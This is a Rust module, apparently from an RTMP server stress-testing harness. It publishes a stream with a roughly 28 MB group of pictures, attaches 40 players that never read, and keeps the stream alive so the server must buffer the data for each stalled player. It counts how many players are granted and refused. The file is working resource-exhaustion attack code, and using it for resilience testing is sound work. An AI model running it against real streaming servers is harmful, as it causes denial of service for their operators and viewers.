//! RTMP players that do not read, of a stream with a long GOP.

use std::time::Duration;

use tokio::time::sleep;

use super::context::Context;
use super::error::AttackError;
use super::media::{Clip, SLICE, filler, inter_frame};
use super::rtmp::{RtmpPeer, VIDEO};

const NAME: &str = "idle-players";

/// Number of players.
const PLAYERS: usize = 40;

/// Bytes of the GOP.
const GROUP: usize = 28 << 20;

/// Bytes of each frame. It is one slice, which is kept.
const FRAME: usize = 128 << 10;

/// Milliseconds from one frame to the next.
const STEP: u32 = 33;

pub(super) async fn run(context: &Context) -> Result<(), AttackError> {
    let clip = Clip::read(context)?;
    let mut slice = SLICE.to_vec();
    slice.extend(filler(FRAME));
    let frame = inter_frame(&[&slice]);
    let mut publisher = RtmpPeer::publish(context, 0, NAME).await?;
    publisher.send(context, VIDEO, 0, clip.video_header).await?;
    publisher.send(context, VIDEO, 0, clip.keyframe).await?;
    let mut number = 0;
    for _ in 0..GROUP / FRAME {
        number += 1;
        publisher
            .send(context, VIDEO, number * STEP, frame.clone())
            .await?;
    }
    let mut players = Vec::new();
    for source in 0..PLAYERS {
        match RtmpPeer::play(context, source, &format!("live/{NAME}")).await {
            Ok(player) => players.push(player),
            Err(_) => context.add("players refused", 1.0),
        }
        context.note("players granted", players.len() as f64);
    }
    // The stream goes on with next to nothing, so that it stays.
    let small = inter_frame(&[SLICE]);
    loop {
        number += 1;
        publisher
            .send(context, VIDEO, number * STEP, small.clone())
            .await?;
        sleep(Duration::from_millis(STEP.into())).await;
    }
}
